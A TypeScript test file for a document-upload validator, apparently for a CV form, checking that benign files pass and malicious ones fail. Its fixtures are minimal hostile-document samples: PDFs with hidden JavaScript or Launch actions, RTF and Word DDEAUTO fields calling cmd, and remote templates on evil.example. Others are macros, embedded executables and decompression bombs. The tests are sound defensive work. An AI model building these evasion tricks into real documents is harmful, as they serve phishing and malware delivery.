import { describe, expect, it } from 'vitest';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { inspectFile } from './inspectFile';
import { zip } from '../../test/zip';

const ALLOWED = ['pdf', '.doc', 'docx', 'rtf', 'txt', 'xls', 'xlsx', 'JPG', 'png'];
const PNG = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
  .png()
  .toBuffer();
const JPG = await sharp(PNG).jpeg().toBuffer();
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF');
const RTF = Buffer.from('{\\rtf1\\ansi קורות חיים}');
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

const types = (type: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/a.xml" ContentType="${type}"/></Types>`;
const docx = (extra: Record<string, string | Buffer> = {}, type = WORD) =>
  zip({ '[Content_Types].xml': types(type), 'word/document.xml': '<w:document/>', ...extra });
const xlsx = () => zip({ '[Content_Types].xml': types(SHEET), 'xl/workbook.xml': '<workbook/>' });
/** Minimal old Office file with the parts that the inspection reads. */
const oldOffice = (...streams: string[]) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    ...streams.map((stream) => Buffer.from(stream, 'utf16le')),
  ]);

const relationship = (type: string, rest: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${rest}/></Relationships>`;
const pdf = (...objects: string[]) =>
  Buffer.from(`%PDF-1.5\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
const stream = (content: string, dictionary = '') =>
  `5 0 obj<<${dictionary}/Filter/FlateDecode>>stream\n${deflateSync(content).toString('latin1')}\nendstream endobj`;

const outside = (rest: string) =>
  docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', rest) });
const SCRIPT = '5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj';

describe('inspectFile', () => {
  it.each([
    ['cv.pdf', PDF, 'application/pdf'],
    ['קורות חיים.PDF', PDF, 'application/pdf'],
    ['photo.jpg', JPG, 'image/jpeg'],
    ['plan.png', PNG, 'image/png'],
    ['cv.rtf', RTF, 'application/rtf'],
    ['cv.txt', Buffer.from('שלום\r\n\tעולם'), 'text/plain'],
    ['old.doc', oldOffice('WordDocument'), 'application/msword'],
    ['old.xls', oldOffice('Workbook'), 'application/vnd.ms-excel'],
    [
      'of-a-developer.pdf',
      pdf('1 0 obj<</Title(HTML/JavaScript \\(and /Launch\\))>>endobj'),
      'application/pdf',
    ],
    ['text-about-scripts.pdf', pdf(stream('BT (I know /JavaScript) Tj ET')), 'application/pdf'],
    ['objects-in-a-stream.pdf', pdf(stream('1 0 <</Type/Catalog>>', '/Type/ObjStm')), 'application/pdf'],
    [
      'with-a-link.docx',
      docx({
        'word/_rels/document.xml.rels': relationship(
          'hyperlink',
          'Target="https://a.example" TargetMode="External"',
        ),
      }),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['cv.docx', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['table.xlsx', xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ])('accepts %s', async (name, bytes, mimeType) => {
    expect(await inspectFile({ name, bytes, allowed: ALLOWED })).toMatchObject({ mimeType });
  });

  it.each([
    ['a kind that the form does not allow', 'a.gif', PNG],
    ['a missing extension', 'README', PDF],
    ['a program', 'cv.pdf.exe', Buffer.from('MZ')],
    ['a macro document', 'cv.docm', docx()],
    ['a page', 'cv.html', Buffer.from('<script>')],
  ])('rejects %s by its extension', async (_case, name, bytes) => {
    await expect(
      inspectFile({ name, bytes, allowed: [...ALLOWED, 'exe', 'docm', 'html'] }),
    ).rejects.toMatchObject({
      reason: 'extension',
    });
  });

  it.each([
    ['a program named pdf', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['a picture named pdf', 'cv.pdf', PNG],
    ['a pdf named txt', 'cv.txt', PDF],
    ['binary data named txt', 'cv.txt', Buffer.from([65, 0, 66])],
    ['an empty file', 'cv.txt', Buffer.alloc(0)],
    ['a workbook named doc', 'cv.doc', oldOffice('Workbook')],
    ['a zip archive named docx', 'cv.docx', zip({ 'a.txt': 'a' })],
    ['a broken archive', 'cv.docx', docx().subarray(0, 60)],
    ['a document with macros', 'cv.docx', docx({ 'word/vbaProject.bin': 'x' })],
    [
      'a document of a macro type',
      'cv.docx',
      docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    ['a document with a program', 'cv.docx', docx({ 'word/embeddings/setup.exe': 'MZ' })],
    ['an old document with macros', 'cv.doc', oldOffice('WordDocument', '_VBA_PROJECT')],
    ['an encrypted document', 'cv.doc', oldOffice('WordDocument', 'EncryptedPackage')],
    [
      'a pdf that runs scripts',
      'cv.pdf',
      Buffer.from(PDF.toString().replace('/Catalog', '/Catalog/JavaScript(x)')),
    ],
    [
      'a pdf that starts programs',
      'cv.pdf',
      Buffer.from(PDF.toString().replace('/Catalog', '/Catalog/Launch')),
    ],
    ['a pdf with an escaped name', 'cv.pdf', pdf('1 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj')],
    [
      'a pdf with a script in an object stream',
      'cv.pdf',
      pdf(stream('1 0 <</S/JavaScript/JS(x)>>', '/Type/ObjStm')),
    ],
    [
      'a pdf with a script in an object that looks like data',
      'cv.pdf',
      pdf('1 0 obj<<>>stream\n2 0 obj<</S/Launch>>endobj\nendstream'),
    ],
    ['a pdf with an embedded file', 'cv.pdf', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
    ['an encrypted pdf', 'cv.pdf', pdf('1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R>>')],
    ['a pdf that is a decompression bomb', 'cv.pdf', pdf(stream('0'.repeat(60_000_000)))],
    ['an rtf with an object over two lines', 'cv.rtf', Buffer.from('{\\rtf1{\\obj\r\ndata 00}}')],
    ['an rtf with an escaped object', 'cv.rtf', Buffer.from("{\\rtf1{\\obj\\'64ata 00}}")],
    ['an rtf with a template', 'cv.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dot}}')],
    [
      'an rtf with a field that loads data',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}}'),
    ],
    [
      'a document with an external template',
      'cv.docx',
      docx({
        'word/_rels/settings.xml.rels': relationship(
          'attachedTemplate',
          'Target="https://evil.example/t.dotm" TargetMode="External"',
        ),
      }),
    ],
    [
      'a document with an external picture',
      'cv.docx',
      docx({
        'word/_rels/document.xml.rels': relationship(
          'image',
          'TargetMode = \'External\' Target="\\\\\\\\evil\\a"',
        ),
      }),
    ],
    [
      'a document whose relationship is written with a character reference',
      'cv.docx',
      outside('Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"'),
    ],
    [
      'a document whose template is declared as a link',
      'cv.docx',
      outside('Target="https://evil.example/hyperlink" TargetMode="External"'),
    ],
    [
      'a document with a bracket in an attribute',
      'cv.docx',
      outside('Note="a>b" Target="https://evil.example/t.dotm" TargetMode="External"'),
    ],
    [
      'a document with a relationship in UTF-16',
      'cv.docx',
      docx({
        'word/_rels/settings.xml.rels': Buffer.from(
          relationship('attachedTemplate', 'Target="https://evil.example/t" TargetMode="External"'),
          'utf16le',
        ).swap16(),
      }),
    ],
    [
      'a document with a document type',
      'cv.docx',
      docx({ '_rels/.rels': `<!DOCTYPE a [<!ENTITY e "External">]>${relationship('image', 'Target="a"')}` }),
    ],
    [
      'a document with a split field that starts a program',
      'cv.docx',
      docx({
        'word/document.xml':
          '<w:document xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText></w:document>',
      }),
    ],
    [
      'a pdf whose objects are written in hexadecimal digits',
      'cv.pdf',
      pdf(
        `6 0 obj<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n${Buffer.from(
          '5 0 <</S/JavaScript/JS(a)>>',
        ).toString('hex')}>\nendstream endobj`,
      ),
    ],
    [
      'a pdf with a script in an untyped object stream with a wrong checksum',
      'cv.pdf',
      pdf(
        stream('5 0 null<</S/JavaScript/JS(a)>>', '/N 1/First 4').replace(
          /.{4}\nendstream/s,
          'oops\nendstream',
        ),
      ),
    ],
    [
      'a pdf with a bracket in a comment before a stream',
      'cv.pdf',
      pdf(`4 0 obj<</Length 1>>%\nstream\n(\nendstream\nendobj\n${SCRIPT}`),
    ],
    [
      'a pdf with a stream that seems to end before an open bracket',
      'cv.pdf',
      pdf(`4 0 obj<</Length 12>>stream\nendstream\n(\nendstream\nendobj\n${SCRIPT}`),
    ],
    ['a pdf with a NUL behind a name', 'cv.pdf', pdf('1 0 obj<</S/JavaScript\0/JS\0(a)>>endobj')],
    [
      'a pdf with an indirect stream filter',
      'cv.pdf',
      pdf('7 0 obj/FlateDecode endobj', '6 0 obj<</N 1/First 4/Filter 7 0 R>>stream\nx\nendstream endobj'),
    ],
    [
      'an rtf with a split field',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\field{\\*\\fldinst {\\b0}{D}D\\b0 EAUTO c:\\\\cmd}}}'),
    ],
    ['a document with an object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['an rtf with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
    ['a bomb', 'cv.docx', docx({ 'word/a.xml': '0'.repeat(5_000_000) })],
  ])('rejects %s by its content', async (_case, name, bytes) => {
    await expect(inspectFile({ name, bytes, allowed: ALLOWED })).rejects.toMatchObject({ reason: 'type' });
  });
});
